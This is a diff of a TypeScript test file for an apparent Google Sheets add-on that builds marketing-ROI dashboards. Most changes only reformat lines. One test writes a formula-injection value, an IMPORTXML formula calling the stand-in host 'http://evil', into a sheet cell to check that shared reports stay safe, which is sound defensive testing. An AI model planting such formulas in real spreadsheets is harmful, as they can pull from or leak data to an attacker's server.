@@ -56,7 +56,10 @@ describe('getContext / detect', () => {
     const ctx = ok<SidebarContext>(s, 'getContext');
     expect(ctx.locale).toBe('ru');
     expect(ctx.activeSheetName).toBe('Лиды');
-    expect(ctx.sheets.map((x) => [x.name, x.isDashboard])).toEqual([['Лиды', false], ['Расходы', false]]);
+    expect(ctx.sheets.map((x) => [x.name, x.isDashboard])).toEqual([
+      ['Лиды', false],
+      ['Расходы', false],
+    ]);
     expect(ctx.saved).toBeNull();
     expect(ctx.defaultOptions.currency).toBe('RUB');
   });
@@ -68,7 +71,10 @@ describe('getContext / detect', () => {
     expect(opening.schedule).toEqual({ interval: 'off' });
     expect(opening.context).toEqual(ok<SidebarContext>(s, 'getContext'));
     // A CRM export on the active sheet, and the costs sheet its name gives away.
-    expect(opening.detections.map((d) => [d.sheetName, d.detection.shape])).toEqual([['Лиды', 'crm'], ['Расходы', 'aggregated']]);
+    expect(opening.detections.map((d) => [d.sheetName, d.detection.shape])).toEqual([
+      ['Лиды', 'crm'],
+      ['Расходы', 'aggregated'],
+    ]);
     expect(opening.detections[0].detection).toEqual(ok<Detection>(s, 'detect', 'Лиды'));
     // With a saved mapping, the saved sheets are the ones detected.
     const ads = createSession({ samples: ['ad-platform-export-en'] });
@@ -133,7 +139,10 @@ describe('saveMapping / getContext round trip', () => {
     const m = mappingFor(s, 'Ads export');
     ok(s, 'saveMapping', m);
     const before = s.workbook.peekProperties('document')[MAPPING_PROPERTY_KEY];
-    const noChannel: Mapping = { ...m, source: { ...m.source, columns: m.source.columns.map((c) => (c.role === 'channel' ? { ...c, role: 'ignore' as const } : c)) } };
+    const noChannel: Mapping = {
+      ...m,
+      source: { ...m.source, columns: m.source.columns.map((c) => (c.role === 'channel' ? { ...c, role: 'ignore' as const } : c)) },
+    };
     expect(fails(s, 'saveMapping', noChannel)).toContain('No channel/source column');
     expect(s.workbook.peekProperties('document')[MAPPING_PROPERTY_KEY]).toBe(before);
   });
@@ -214,7 +223,7 @@ describe('buildDashboard / refreshDashboard / shareReport', () => {
     const src = s.workbook.spreadsheet.getSheetByName('渠道月报');
     const channelCol = ok<Detection>(s, 'detect', '渠道月报').columns.find((c) => c.role === 'channel');
     if (!src || !channelCol) throw new Error('sample changed');
-    src.getRange(2, channelCol.index + 1).setValue("'=IMPORTXML(\"http://evil\",\"//a\")");
+    src.getRange(2, channelCol.index + 1).setValue('\'=IMPORTXML("http://evil","//a")');
     ok(s, 'saveMapping', mappingFor(s, '渠道月报'));
     const built = ok<BuildResult>(s, 'buildDashboard');
     const shared = ok<ShareResult>(s, 'shareReport');
@@ -251,7 +260,11 @@ describe('buildDashboard / refreshDashboard / shareReport', () => {
     expect(copy.charts.map((c) => c.ranges.map((r) => r.values))).toEqual(original.charts.map((c) => c.ranges.map((r) => r.values)));
     // Chart options the API can carry arrive intact: legend, axis titles, data labels, clipped axes, size.
     const carried = (o: Readonly<Record<string, unknown>>) =>
-      Object.fromEntries(Object.entries(o).filter(([k]) => /^(title|legend|width|height|[hv]Axis\.(title|viewWindow\..*)|series\.\d+\.(dataLabel|color))$/u.test(k)));
+      Object.fromEntries(
+        Object.entries(o).filter(([k]) =>
+          /^(title|legend|width|height|[hv]Axis\.(title|viewWindow\..*)|series\.\d+\.(dataLabel|color))$/u.test(k),
+        ),
+      );
     expect(copy.charts.map((c) => carried(c.options))).toEqual(original.charts.map((c) => carried(c.options)));
     expect(copy.charts.map((c) => c.numHeaders)).toEqual(original.charts.map((c) => Math.max(0, c.numHeaders)));
   });
@@ -259,18 +272,29 @@ describe('buildDashboard / refreshDashboard / shareReport', () => {
   it('makes the copy through the Sheets advanced service under spreadsheets.currentonly + drive.file', () => {
     // The manifest no longer asks for the full `spreadsheets` scope: SpreadsheetApp.create is refused,
     // as Apps Script refuses a call whose scope was not granted; the share path never calls it.
-    const manifest = JSON.parse(readFileSync('appsscript.json', 'utf8')) as { oauthScopes: string[]; dependencies: { enabledAdvancedServices: { userSymbol: string; version: string }[] } };
+    const manifest = JSON.parse(readFileSync('appsscript.json', 'utf8')) as {
+      oauthScopes: string[];
+      dependencies: { enabledAdvancedServices: { userSymbol: string; version: string }[] };
+    };
     expect(manifest.oauthScopes).not.toContain('https://www.googleapis.com/auth/spreadsheets');
-    expect(manifest.oauthScopes).toEqual(expect.arrayContaining(['https://www.googleapis.com/auth/spreadsheets.currentonly', 'https://www.googleapis.com/auth/drive.file']));
+    expect(manifest.oauthScopes).toEqual(
+      expect.arrayContaining(['https://www.googleapis.com/auth/spreadsheets.currentonly', 'https://www.googleapis.com/auth/drive.file']),
+    );
     expect(manifest.dependencies.enabledAdvancedServices).toEqual([expect.objectContaining({ userSymbol: 'Sheets', version: 'v4' })]);
     const s = createSession({ samples: ['channel-monthly-zh'] });
-    expect(() => s.workbook.services.SpreadsheetApp.create('x')).toThrow(/Required permissions: https:\/\/www\.googleapis\.com\/auth\/spreadsheets$/u);
+    expect(() => s.workbook.services.SpreadsheetApp.create('x')).toThrow(
+      /Required permissions: https:\/\/www\.googleapis\.com\/auth\/spreadsheets$/u,
+    );
     ok(s, 'saveMapping', mappingFor(s, '渠道月报'));
     ok(s, 'buildDashboard');
     s.workbook.calls.reset();
     ok(s, 'shareReport');
     const calls = Object.fromEntries([...s.workbook.calls.byMethod].filter(([name]) => name.startsWith('Sheets.')));
-    expect(calls).toEqual({ 'Sheets.Spreadsheets.create': 1, 'Sheets.Spreadsheets.Values.batchUpdate': 1, 'Sheets.Spreadsheets.batchUpdate': 1 });
+    expect(calls).toEqual({
+      'Sheets.Spreadsheets.create': 1,
+      'Sheets.Spreadsheets.Values.batchUpdate': 1,
+      'Sheets.Spreadsheets.batchUpdate': 1,
+    });
     expect(s.workbook.calls.count('SpreadsheetApp.create')).toBe(0);
   });
 
@@ -279,7 +303,20 @@ describe('buildDashboard / refreshDashboard / shareReport', () => {
     const api = s.workbook.services.Sheets!;
     const { spreadsheetId } = api.Spreadsheets.create({ properties: { title: 'x' } });
     expect(() =>
-      api.Spreadsheets.batchUpdate({ requests: [{ updateSheetProperties: { properties: { sheetId: 0, gridProperties: { frozenRowCount: 2 } }, fields: 'gridProperties.frozenRowCount' } }, { sortRange: {} }] }, spreadsheetId!),
+      api.Spreadsheets.batchUpdate(
+        {
+          requests: [
+            {
+              updateSheetProperties: {
+                properties: { sheetId: 0, gridProperties: { frozenRowCount: 2 } },
+                fields: 'gridProperties.frozenRowCount',
+              },
+            },
+            { sortRange: {} },
+          ],
+        },
+        spreadsheetId!,
+      ),
     ).toThrow(/"sortRange" is not implemented/u);
     expect(s.workbook.createdSpreadsheets()[0].snapshot('Sheet1').frozenRows).toBe(0);
   });
@@ -308,7 +345,9 @@ describe('scheduled rebuild (installable time-driven trigger)', () => {
     const dashboards = s.workbook.sheetNames().filter((n) => /дашборд|FunnelROI/iu.test(n));
     expect(dashboards).toHaveLength(1);
     expect(s.workbook.snapshot(dashboards[0]).values[0][0]).toBe('Окупаемость маркетинга по каналам');
-    expect(() => s.workbook.asClockExecution(() => s.workbook.services.SpreadsheetApp.getUi())).toThrow(/Cannot call SpreadsheetApp.getUi\(\) from this context/u);
+    expect(() => s.workbook.asClockExecution(() => s.workbook.services.SpreadsheetApp.getUi())).toThrow(
+      /Cannot call SpreadsheetApp.getUi\(\) from this context/u,
+    );
 
     expect(ok(s, 'setSchedule', 'off')).toEqual({ interval: 'off' });
     expect(s.workbook.triggers()).toEqual([]);
